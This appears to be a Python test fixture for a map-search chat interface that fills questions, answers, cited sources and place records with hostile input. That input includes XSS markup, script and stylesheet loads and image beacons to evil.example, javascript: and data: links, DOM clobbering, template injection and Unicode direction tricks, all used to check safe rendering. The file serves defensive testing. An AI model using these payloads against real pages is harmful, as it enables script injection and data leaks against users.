"""Texts that act in a page that takes them for markup: each then calls `ran` or asks EVIL.

And a thread's state in which every text is one of them, as no honest run would leave it.
"""

from typing import Any

EVIL = "http://evil.example"
MARKUP = {
    "image": "<img src=x onerror=ran('image')>",
    "script": f"<script>ran('script')</script><script src={EVIL}/s.js></script>",
    "vector": "<svg/onload=ran('vector')><svg><script>ran('vector')</script></svg>",
    "closing": "</textarea></title></p></dialog><img src=x onerror=ran('closing')>",
    "attribute": "\"><img src=x onerror=ran('attribute')> ' onfocus=ran('a') autofocus x='",
    "base": f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}/'>",
    "style": f"<style>@import '{EVIL}/c.css';*{{display:none}}</style><link href={EVIL}/l.css>",
    "frame": f"<iframe src={EVIL}/f srcdoc=\"<script>parent.ran('frame')</script>\"></iframe>",
    "form": f"<form action={EVIL}><button formaction=javascript:ran('form')>go</button></form>",
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=1 onerror=ran('mutation')&gt;\">"
    ),
    "clobber": "<form id=question name=body><input name=attributes><img name=currentScript></form>",
    "templates": "{{constructor.constructor('ran(1)')()}} ${ran(2)} {text} {question} %s",
}
MARKDOWN = {
    "beacon": f"![map]({EVIL}/p.png) ![x](//evil.example/p.png) [![i]({EVIL}/i.png)]({EVIL}/i)",
    "javascript": "[site](javascript:ran('md')) [x](&#106;avascript:ran(1)) <javascript:ran(2)>",
    "data": "[get](data:text/html,<script>opener.ran('data')</script>) [v](vbscript:ran)",
    "reference": f"[1][1] [site][r]\n\n[1]: {EVIL}/r\n[r]: javascript:ran('reference')",
    "title": "[x](https://example.org \"' onmouseover=ran('title') x='\")",
    "citation": f"[1](javascript:ran('citation')) [99]({EVIL}/99) [0]({EVIL}/0)",
    "looks": f"**来源**\n\n1. [假来源]({EVIL}/looks) — G\n\n# <img src=x onerror=ran('looks')>",
    "table": "|<img src=x onerror=ran('t')>|b|\n|:-:|-|\n|[x](javascript:ran(1))|![y](x:y)|",
}
UNSEEN = {
    "right-to-left": "\u202egnp.exe\u202c \u2066左\u2069 \u200b\ufeff<b>x</b>",
    "controls": "a\u0085b\u2028c\u2029d\x7f\x1b[31me <i>f</i>",
    "lone": "half a pair: \ud83d <u>g</u>".encode("utf-8", "replace").decode(),
}
TEXTS = {**MARKUP, **MARKDOWN, **UNSEEN}
LINKS = [
    "javascript:ran('link')",
    "JaVaScRiPt:ran('link')//https://example.org",
    " javascript:ran('link')",
    "java\tscript:ran('link')",
    "data:text/html,<script>opener.ran('link')</script>",
    "vbscript:ran",
    "//evil.example/x",
    "/app/sign-out",
    f'{EVIL}/"><img src=x onerror=ran(1)>',
]


def _place(text: str, number: int, link: str) -> dict[str, Any]:
    gcj: dict[str, Any] = {"lng": 116.41 + number / 500, "lat": 39.914, "crs": "GCJ-02"}
    return {
        "id": f'amap:"]{text}{number}', "name": f"{number} {text}", "address": text,
        "category": text, "district": text, "city": text, "open_time": text,
        "distance_m": 100 * number, "distance_from": text, "rating": 4.5, "cost": 40,
        "location": gcj, "wgs84": {"lng": gcj["lng"] - 0.0062, "lat": gcj["lat"] - 0.0014},
        "photo": link, "url": link, "source": f"a0-{number}", "mentioned": number < 2,
        "keywords": [text], "detailed": True, "fetched_at": text,
    }  # fmt: skip


def _source(text: str, number: int, link: str) -> dict[str, Any]:
    return {
        "id": f"a0-{number}", "kind": ["place", "page", text][number % 3], "title": text,
        "url": link, "provider": text, "quotes": [text, f"again: {text}"], "number": number + 1,
    }  # fmt: skip


def _kwargs(text: str) -> dict[str, Any]:
    """What an AI message carries besides its text."""
    task = {"intent": text, "place": text, "keywords": [text], "mode": text}
    return {
        "assistant": "agent", "mode": "online", "degraded": False, "needs": None,
        "sources": [_source(text, number, link) for number, link in enumerate(LINKS)],
        "places": [_place(text, number, link) for number, link in enumerate(LINKS[:4])],
        "gaps": [{"message": text, "query": text, "provider": text, "kind": text}],
        "queries": [{"query": text, "map": task, "round": 1}],
        "routes": [], "weather": [], "search_entry_points": ["<a>chip</a>"],
        "anchor": {"name": text, "wgs84": {"lng": 116.404, "lat": 39.9126}},
        "usage": {"searches": 1, "seconds": 1.0, "cost_usd": 0.0}, "checks": {},
    }  # fmt: skip


def exchange(name: str, text: str) -> list[dict[str, Any]]:
    """A question and its answer, all of them `text`; two sources are cited, one that is not."""
    link = "https://example.org/page"
    said = f"{text}\n\n{name} [1]({link}) [2]({link}) [999]({link})\n\n{text}"
    return [
        {"type": "human", "id": f"q-{name}", "content": f"{name} {text}"},
        {"type": "ai", "id": f"a-{name}", "content": said, "additional_kwargs": _kwargs(text)},
    ]
